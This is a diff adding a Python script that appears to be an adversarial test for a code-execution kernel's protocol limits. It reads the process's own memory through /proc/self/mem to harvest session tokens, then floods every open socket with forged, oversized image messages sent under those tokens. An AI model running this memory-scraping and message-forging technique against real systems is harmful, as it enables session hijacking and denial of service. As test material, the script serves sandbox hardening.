@@ -1,0 +1,47 @@
+# why: the token is found and a thousand pictures are sent in the kernel's name; number and size of a run's pictures are bounded by init and host.
+# kind: protocol
+# status: ok, error, crashed, killed, timeout, memory
+# after: any
+
+import ctypes
+import os
+import re
+import stat
+
+
+def channels():
+    """Every socket of this process."""
+    for name in os.listdir("/proc/self/fd"):
+        try:
+            if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
+                yield int(name)
+        except OSError:
+            pass
+
+
+def secrets():
+    """Tokens with the run's number, as they stand in memory since the request was read."""
+    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)
+    found = {}
+    memory = os.open("/proc/self/mem", os.O_RDONLY)
+    for line in open("/proc/self/maps"):
+        start, end = (int(x, 16) for x in line.split()[0].split("-"))
+        if " rw" in line and end - start < 64 << 20:
+            try:
+                text = os.pread(memory, end - start, start)
+            except (OSError, OverflowError):
+                continue
+            for token, n in re.findall(rb'([!-~]{16})[.+]\{"[^\n]{0,99}"n": ?(\d+)', text):
+                found[token] = max(int(n), found.get(token, 0))
+    os.close(memory)
+    return found.items()
+
+
+found, sockets = list(secrets()), list(channels())
+for _ in range(1000):
+    for token, n in found:
+        for fd in sockets:
+            os.write(fd, token + b'+{"op":"image","n":%d,"mime":"image/png","width":9,"height":9,"source":"pil"}\n' % n)
+            for _ in range(20):
+                os.write(fd, token + b"+" + b"\x89PNG\r\n\x1a\n" * 7000)
+            os.write(fd, token + b".")
